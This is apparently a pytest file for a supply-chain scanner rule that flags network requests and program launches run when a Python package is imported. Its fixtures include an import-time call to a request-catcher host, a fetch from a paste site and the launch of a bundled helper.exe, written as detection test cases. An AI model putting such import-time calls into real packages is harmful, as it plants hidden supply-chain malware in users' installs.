"""Requests of an import."""

from lazaretto.detect.rules.python.import_time_call import RULE


def test_to_a_request_catcher(scan):
    text = r"""import requests
requests.get("https://x.oast.test/0000")
"""
    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]


def test_to_a_paste_site(scan):
    text = r"""import requests
TEXT = requests.get("https://paste.example.test/raw/0000").text
"""
    assert scan(RULE, text, "package/__init__.py") == [(2, "MEDIUM", "MEDIUM", "import")]


def test_a_program_beside_it(scan):
    text = r"""import os, subprocess
subprocess.Popen([os.path.join(os.path.dirname(__file__), "helper.exe")])
"""
    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "MEDIUM", "import")]


def test_near_miss_when_called(scan):
    text = r"""import requests
def get():
    return requests.get("https://paste.example.test/raw/0000").text
"""
    assert scan(RULE, text, "package/__init__.py") == []
